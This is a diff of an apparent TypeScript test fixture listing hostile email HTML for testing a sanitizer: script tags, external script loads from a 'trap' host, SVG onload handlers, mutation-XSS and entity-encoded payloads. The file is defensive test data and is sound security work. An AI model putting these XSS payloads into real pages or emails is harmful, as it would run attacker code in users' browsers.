@@ -1,18 +1,22 @@
-/** Where a hostile mail tries to go, and what it does where it can run. */
-export interface Bait {
-  /** Nothing may ever come there. */
+/** Targets of a hostile email. */
+export interface AttackUrls {
+  /** URL of the trap server, which no email may reach. */
   readonly trap: string
-  /** Pictures may come from there, once they are asked for. */
+  /** URL of the server whose pictures load on request. */
   readonly pictures: string
-  /** JavaScript without double quotes. */
+  /** JavaScript that leaves a trace. It contains no double quotes. */
   readonly run: string
 }
 
-/** A mail that is called `inert` does nothing in today's Chromium, with nothing between them. */
-export type Row = readonly [name: string, html: (bait: Bait) => string, note?: 'inert' | undefined]
+/** Attack: name and HTML. An `inert` attack does nothing in current Chromium, even without protection. */
+export type AttackRow = readonly [
+  name: string,
+  html: (bait: AttackUrls) => string,
+  note?: 'inert' | undefined,
+]
 
-/** Ways to run a script. */
-export const SCRIPTS: readonly Row[] = [
+/** Attacks that run scripts. */
+export const SCRIPTS: readonly AttackRow[] = [
   ['script', ({ run }) => `<script>${run}</script>`],
   ['script src', ({ trap }) => `<script src="${trap}/a.js"></script>`],
   ['script type=module', ({ trap }) => `<script type="module" src="${trap}/a.js"></script>`],
@@ -81,8 +85,8 @@ export const SCRIPTS: readonly Row[] = [
   ['top navigation', ({ trap }) => `<script>top.location='${trap}/top.html'</script>`],
 ]
 
-/** Ways by SVG and MathML. */
-export const FOREIGN: readonly Row[] = [
+/** Attacks with SVG and MathML. */
+export const FOREIGN: readonly AttackRow[] = [
   ['svg script', ({ run }) => `<svg><script>${run}</script></svg>`],
   ['svg script href', ({ trap }) => `<svg><script href="${trap}/a.js"></script></svg>`],
   ['svg onload', ({ run }) => `<svg onload="${run}"></svg>`],
@@ -120,8 +124,8 @@ export const FOREIGN: readonly Row[] = [
   ['xml stylesheet', ({ trap }) => `<?xml-stylesheet href="${trap}/a.css"?>x`, 'inert'],
 ]
 
-/** Ways that lead parsers to read other things than browsers. */
-export const MUTATIONS: readonly Row[] = [
+/** Attacks that sanitizers parse differently than browsers. */
+export const MUTATIONS: readonly AttackRow[] = [
   [
     'noscript and title',
     ({ run }) =>
@@ -180,7 +184,8 @@ export const MUTATIONS: readonly Row[] = [
   ['UTF-7', () => '<meta charset="utf-7">+ADw-script+AD4-top.__owned=1+ADw-/script+AD4-', 'inert'],
   [
     'entities in a handler',
-    ({ run }) => `<img src="x:" onerror="${[...run].map(one => `&#${one.charCodeAt(0)};`).join('')}">`,
+    ({ run }) =>
+      `<img src="x:" onerror="${[...run].map(character => `&#${character.charCodeAt(0)};`).join('')}">`,
   ],
   [
     'nested tables',
